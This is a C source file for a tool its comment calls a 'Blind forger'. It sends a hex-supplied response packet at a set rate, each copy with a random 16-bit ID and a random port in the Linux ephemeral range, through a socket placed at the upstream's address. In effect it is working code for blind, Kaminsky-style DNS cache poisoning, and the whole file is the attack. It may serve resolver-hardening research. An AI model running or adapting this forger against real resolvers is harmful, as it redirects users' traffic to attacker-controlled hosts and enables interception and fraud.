/* Blind forger: FD ADDRESS RATE SECONDS RESPONSE. Sends a response (in hex), each time under a random ID to a random port
 * of an address, so many a second, through a socket that stands where the upstream stands. Prints how many went. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 50, FIRST_PORT = 32768, PORTS = 28232, OCTETS = 512 };

static uint64_t state;

static uint64_t draw(void) /* splitmix64 */
{
    uint64_t z = state += 0x9e3779b97f4a7c15;
    z = (z ^ z >> 30) * 0xbf58476d1ce4e5b9;
    z = (z ^ z >> 27) * 0x94d049bb133111eb;
    return z ^ z >> 31;
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    static unsigned char octets[BATCH][OCTETS];
    static struct sockaddr_in to[BATCH];
    static struct iovec parts[BATCH];
    static struct mmsghdr messages[BATCH];
    if (argc != 6)
        return 2;
    int fd = atoi(argv[1]);
    double rate = atof(argv[3]), start = now(), end = start + atof(argv[4]);
    size_t length = strlen(argv[5]) / 2;
    if (length > OCTETS || getrandom(&state, sizeof state, 0) != sizeof state)
        return 2;
    for (int k = 0; k < BATCH; k++) {
        for (size_t at = 0; at < length; at++)
            sscanf(argv[5] + 2 * at, "%2hhx", &octets[k][at]);
        to[k].sin_family = AF_INET;
        if (inet_pton(AF_INET, argv[2], &to[k].sin_addr) != 1)
            return 2;
        parts[k] = (struct iovec){octets[k], length};
        messages[k].msg_hdr = (struct msghdr){&to[k], sizeof to[k], &parts[k], 1, NULL, 0, 0};
    }
    unsigned long sent = 0;
    for (double at = start; at < end; at = now()) {
        if (sent >= (at - start) * rate) {
            nanosleep(&(struct timespec){0, 500000}, NULL);
            continue;
        }
        for (int k = 0; k < BATCH; k++) {
            uint64_t drawn = draw();
            memcpy(octets[k], &drawn, 2);
            to[k].sin_port = htons(FIRST_PORT + (drawn >> 16) % PORTS);
        }
        int went = sendmmsg(fd, messages, BATCH, 0);
        sent += went > 0 ? went : 0;
    }
    printf("%lu\n", sent);
    return 0;
}
